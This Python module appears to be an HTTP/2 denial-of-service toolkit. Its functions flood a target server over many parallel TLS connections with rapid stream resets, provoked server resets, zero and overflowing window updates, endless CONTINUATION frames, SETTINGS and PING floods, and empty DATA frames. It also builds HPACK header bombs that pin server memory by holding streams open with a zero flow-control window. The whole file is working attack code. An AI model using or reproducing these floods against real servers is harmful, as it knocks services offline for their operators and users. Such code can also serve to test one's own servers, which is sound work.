"""Floods of HTTP/2 frames: cheap to send, dear to take."""

import itertools
import time

import http2
import wire
from wire import Http2, Tally

CONNECTIONS = 4
BATCH = 64
ORIGIN_WORK = "/reports/work"
# For requests to reach the origin.
MOMENT = 0.02

BOMB_CONNECTIONS = 10
BOMB_STREAMS = 100
# Used if the target does not say which header lists it takes.
USUAL_HEADER_LIST = 32 * 1024
# "Just under the limit": some room for the fields that Belay may count differently.
BOMB_SHARE_OF_LIMIT = 0.9


def flood(target, until, strike, connections=CONNECTIONS, settings=()):
    """Runs `strike(connection, tally)` over some connections at once, again and again."""
    tally = Tally()
    context = wire.tls_context(target, "h2")

    def open_connection():
        return Http2(target, tally, settings=settings, context=context)

    def attacker(_):
        wire.again_and_again(open_connection, lambda connection: strike(connection, tally), until, tally)

    wire.in_parallel(connections, attacker)
    return tally


def repeat(connection, tally, until, make_batch, read=True):
    """Sends batches of `BATCH` blows until the connection or the time is over."""
    while connection.send(make_batch(), until, read_meanwhile=read):
        tally.strike(BATCH)
        if read:
            connection.read()


def rapid_reset(target, until):
    """Half of the attackers reset at once, the other half when the requests have had a moment to reach the origin."""
    hasty = itertools.cycle([True, False])
    block = http2.request_block("GET", target.host, ORIGIN_WORK)

    def strike(connection, tally):
        pause = 0 if next(hasty) else MOMENT
        while connection.is_open and time.monotonic() < until:
            streams = [connection.new_stream() for _ in range(BATCH)]
            connection.send(b"".join(http2.headers(stream, block) for stream in streams), until)
            connection.wait_readable(pause)
            connection.send(b"".join(http2.reset(stream) for stream in streams), until)
            tally.strike(BATCH)
            connection.read()

    return flood(target, until, strike)


def made_you_reset(target, until):
    """The server itself resets the streams, for a window that overflows; does its work for them end, too?"""
    block = http2.request_block("GET", target.host, ORIGIN_WORK)

    def strike(connection, tally):
        allowed = connection.setting(http2.SETTING_MAX_CONCURRENT_STREAMS, None)
        if allowed:
            tally.note("streams_allowed", allowed)

        def request_and_provoke():
            stream = connection.new_stream()
            return http2.headers(stream, block) + http2.window_update(stream, http2.WINDOW_MAX)

        while connection.send(b"".join(request_and_provoke() for _ in range(BATCH)), until):
            tally.strike(BATCH)
            # Before the next round takes the places of this one.
            connection.wait_readable(MOMENT)
            connection.read()

    return flood(target, until, strike)


def zero_window_update(target, until):
    block = http2.request_block("GET", target.host, ORIGIN_WORK)

    def strike(connection, tally):
        def request_and_provoke():
            stream = connection.new_stream()
            return http2.headers(stream, block) + http2.window_update(stream, 0)

        repeat(connection, tally, until, lambda: b"".join(request_and_provoke() for _ in range(BATCH)))

    return flood(target, until, strike)


def continuation(target, until):
    """A head that never ends, half of the connections in many tiny pieces, the other half in large ones."""
    tiny = http2.literal("x-endless", "1")
    large = tiny * (16000 // len(tiny))
    begin = http2.request_block("GET", target.host, ORIGIN_WORK)
    turns = itertools.count()

    def strike(connection, tally):
        stream = connection.new_stream()
        piece = tiny if next(turns) % 2 else large
        batch = http2.frame(http2.CONTINUATION, 0, stream, piece) * BATCH
        connection.send(http2.headers(stream, begin, flags=http2.END_STREAM), until)
        repeat(connection, tally, until, lambda: batch)

    return flood(target, until, strike)


def settings(target, until):
    """Every SETTINGS asks for an acknowledgement."""
    batch = http2.settings([(http2.SETTING_INITIAL_WINDOW_SIZE, http2.WINDOW_INITIAL)]) * BATCH
    return flood_for_answers(target, until, batch)


def pings(target, until):
    """Every PING asks for its echo."""
    return flood_for_answers(target, until, http2.frame(http2.PING, 0, 0, b"whatever") * BATCH)


def flood_for_answers(target, until, batch):
    """Half of the connections take the answers, so that it can go on for ever; the others let them queue up."""
    reads = itertools.cycle([True, False])
    return flood(
        target, until, lambda connection, tally: repeat(connection, tally, until, lambda: batch, read=next(reads))
    )


def empty_data(target, until):
    block = http2.request_block("POST", target.host, ORIGIN_WORK)

    def strike(connection, tally):
        stream = connection.new_stream()
        connection.send(http2.headers(stream, block, flags=http2.END_HEADERS), until)
        batch = http2.frame(http2.DATA, 0, stream) * BATCH
        repeat(connection, tally, until, lambda: batch)

    return flood(target, until, strike)


def header_bomb(target, until):
    """Each field after the first is one byte on the wire and a whole field in memory; all streams are held open."""

    def plant(connection, tally):
        limit = connection.setting(http2.SETTING_MAX_HEADER_LIST_SIZE, USUAL_HEADER_LIST)
        streams = min(BOMB_STREAMS, connection.setting(http2.SETTING_MAX_CONCURRENT_STREAMS, BOMB_STREAMS))
        tally.note("header_list_limit", limit)
        tally.note("streams_each", streams)
        first, others = bomb_blocks(target, int(limit * BOMB_SHARE_OF_LIMIT))
        for number in range(streams):
            block = others if number else first
            if connection.send(http2.headers(connection.new_stream(), block, flags=http2.END_HEADERS), until):
                tally.strike(1)

    def plant_and_hold(connection, tally):
        plant(connection, tally)
        while connection.is_open and time.monotonic() < until:
            connection.wait_readable(0.1)
            connection.read()

    # With no window the server cannot send its answers away, and has to keep them.
    no_window = [(http2.SETTING_INITIAL_WINDOW_SIZE, 0)]
    return flood(target, until, plant_and_hold, connections=BOMB_CONNECTIONS, settings=no_window)


def too_large_heads(target, until):
    """Heads of twice the size that is allowed, without end: each must be read before it can be refused."""

    def strike(connection, tally):
        limit = connection.setting(http2.SETTING_MAX_HEADER_LIST_SIZE, USUAL_HEADER_LIST)
        first, others = bomb_blocks(target, 2 * limit)
        connection.send(http2.headers(connection.new_stream(), first), until)
        while connection.send(http2.headers(connection.new_stream(), others), until, read_meanwhile=True):
            tally.strike(1)
            connection.read()

    return flood(target, until, strike, connections=BOMB_CONNECTIONS)


def bomb_blocks(target, list_size):
    """The header block that fills the dynamic table's newest entry and repeats it, and the one that only repeats it."""
    request = [(":method", "POST"), (":scheme", "https"), (":authority", target.host), (":path", ORIGIN_WORK)]
    used = sum(http2.field_size(name, value) for name, value in request)
    head = http2.request_block("POST", target.host, ORIGIN_WORK)
    repetitions = (list_size - used) // http2.field_size("b", "")
    repeated = http2.NEWEST_ENTRY * repetitions
    return head + http2.remembered("b", "") + repeated[1:], head + repeated
